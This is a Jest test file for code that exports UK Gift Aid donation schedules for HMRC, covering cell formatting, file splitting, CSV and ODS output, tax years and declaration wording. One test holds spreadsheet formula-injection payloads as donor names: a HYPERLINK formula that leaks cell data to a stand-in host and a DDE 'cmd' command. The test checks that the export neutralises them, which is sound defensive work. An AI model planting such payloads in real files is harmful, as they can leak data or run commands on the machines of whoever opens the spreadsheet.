import { describe, expect, it } from '@jest/globals';
import XLSX from 'xlsx';
import {
  amountCell,
  dateCell,
  firstNameCell,
  houseCell,
  lastNameCell,
  partCount,
  postcodeCell,
  rowsOfPart,
  type ScheduleRow,
  scheduleCells,
  scheduleCsv,
  scheduleOds,
  titleCell,
} from './schedule.js';
import { shiftYears, taxYearBounds, taxYearOf } from './tax-year.js';
import { DeclarationScope, declarationWording } from './wording.js';

const row = (overrides: Partial<ScheduleRow> = {}): ScheduleRow => ({
  title: 'Mrs',
  firstName: 'Ada',
  lastName: 'Lovelace',
  houseNameOrNumber: '12',
  postcode: 'SW1A 1AA',
  aggregated: '',
  sponsored: false,
  donationDate: '2026-04-05',
  amountMinor: 1000,
  ...overrides,
});

describe("HMRC's schedule cell rules", () => {
  it('keeps a title of at most 4 characters and leaves a longer one blank', () => {
    expect(titleCell('Prof')).toBe('Prof');
    expect(titleCell(' Rev ')).toBe('Rev');
    expect(titleCell('Brother')).toBe('');
  });

  it('cuts names to 35 characters and writes a double-barrelled last name with a space', () => {
    expect(firstNameCell('A'.repeat(40))).toBe('A'.repeat(35));
    expect(lastNameCell('House-Martin')).toBe('House Martin');
    expect(lastNameCell(`${'B'.repeat(34)}-Smith`)).toBe('B'.repeat(34));
    // The template's first-name column: "up to 35 characters with no spaces, or just enter an initial".
    expect(firstNameCell('  Mary   Ann  ')).toBe('Mary');
    expect(firstNameCell('Jean-Luc')).toBe('Jean-Luc');
  });

  it('writes postcodes in capitals with one space', () => {
    expect(postcodeCell('sw1a1aa')).toBe('SW1A 1AA');
    expect(postcodeCell(' s19  2bd ')).toBe('S19 2BD');
    expect(postcodeCell('x')).toBe('X');
    expect(houseCell(' Rose   Cottage ')).toBe('Rose Cottage');
  });

  it('writes dates as DD/MM/YY and amounts with two decimals, never 0.00', () => {
    expect(dateCell('2026-04-05')).toBe('05/04/26');
    expect(dateCell('2025-12-31')).toBe('31/12/25');
    expect(amountCell(1000)).toBe('10.00');
    expect(amountCell(123456)).toBe('1234.56');
    expect(amountCell(5)).toBe('0.05');
    expect(amountCell(0)).toBe('');
  });

  it('leaves cells that do not apply blank and marks sponsored events Yes', () => {
    expect(scheduleCells(row())).toEqual(['Mrs', 'Ada', 'Lovelace', '12', 'SW1A 1AA', '', '', '05/04/26', '10.00']);
    expect(scheduleCells(row({ title: '', firstName: '', lastName: '', houseNameOrNumber: '', postcode: '', aggregated: 'Online donations 2025-26', sponsored: true }))).toEqual([
      '',
      '',
      '',
      '',
      '',
      'Online donations 2025-26',
      'Yes',
      '05/04/26',
      '10.00',
    ]);
  });
});

describe('schedule files', () => {
  it('splits 2,345 rows into files of 1,000, 1,000 and 345', () => {
    const rows = Array.from({ length: 2345 }, (_, index) => index);
    expect(partCount(rows.length)).toBe(3);
    expect([1, 2, 3].map((part) => rowsOfPart(rows, part).length)).toEqual([1000, 1000, 345]);
    expect(rowsOfPart(rows, 3)[0]).toBe(2000);
    expect(partCount(1000)).toBe(1);
    expect(partCount(0)).toBe(1);
  });

  it('writes CSV with a header row, CRLF line ends and quotes only where needed', () => {
    const csv = scheduleCsv([row({ houseNameOrNumber: 'Flat 2, "The Oaks"' })]).toString('utf8');
    expect(csv).toBe(
      'Title,First name,Last name,House name or number,Postcode,Aggregated donations,Sponsored event,Donation date,Amount\r\n' +
        'Mrs,Ada,Lovelace,"Flat 2, ""The Oaks""",SW1A 1AA,,,05/04/26,10.00\r\n',
    );
  });

  it('writes a name or address a spreadsheet would run as a formula as text, and the amount as a number', () => {
    const csv = scheduleCsv([row({ firstName: '=HYPERLINK("//ev.il/"&D2,"x")', lastName: "+cmd|' /C calc'!A0", houseNameOrNumber: '@SUM(1)' })]).toString('utf8');
    expect(csv.split('\r\n')[1]).toBe(`Mrs,"'=HYPERLINK(""//ev.il/""&D2,""x"")",'+cmd|' /C calc'!A0,'@SUM(1),SW1A 1AA,,,05/04/26,10.00`);
  });

  it('writes the same OpenDocument bytes each time, with a date cell and a number for the amount', () => {
    const ods = scheduleOds([row()]);
    expect(scheduleOds([row()]).equals(ods)).toBe(true);
    const sheet = XLSX.read(ods, { type: 'buffer', cellDates: true }).Sheets.Schedule;
    expect(sheet.A1.v).toBe('Title');
    expect(sheet.I1.v).toBe('Amount');
    expect(sheet.H2.t).toBe('d');
    expect((sheet.H2.v as Date).toISOString().slice(0, 10)).toBe('2026-04-05');
    expect(sheet.I2).toMatchObject({ t: 'n', v: 10 });
    expect(sheet.F2).toBeUndefined();
  });
});

describe('tax years and wording', () => {
  it('runs tax years from 6 April to 5 April', () => {
    expect(taxYearOf('2026-04-05')).toBe(2025);
    expect(taxYearOf('2026-04-06')).toBe(2026);
    expect(taxYearBounds(2025)).toEqual({ from: '2025-04-06', to: '2026-04-05' });
    expect(shiftYears('2028-02-29', -4)).toBe('2024-02-29');
    expect(shiftYears('2024-02-29', 1)).toBe('2025-02-28');
  });

  it("states HMRC's model declaration for one gift and for an enduring one", () => {
    expect(declarationWording(DeclarationScope.ThisDonation, 'Grace Church', { amountMinor: 1000, currency: 'GBP' })).toBe(
      'I want to Gift Aid my donation of £10.00 to Grace Church. I am a UK taxpayer and understand that if I pay less Income Tax and/or Capital Gains Tax in the current tax year than the amount of Gift Aid claimed on all my donations it is my responsibility to pay any difference.',
    );
    expect(declarationWording(DeclarationScope.Enduring, 'Grace Church')).toBe(
      'I want to Gift Aid any donations I make in the future or have made in the past 4 years to Grace Church. I am a UK taxpayer and understand that if I pay less Income Tax and/or Capital Gains Tax in that tax year than the amount of Gift Aid claimed on all my donations it is my responsibility to pay any difference.',
    );
  });
});
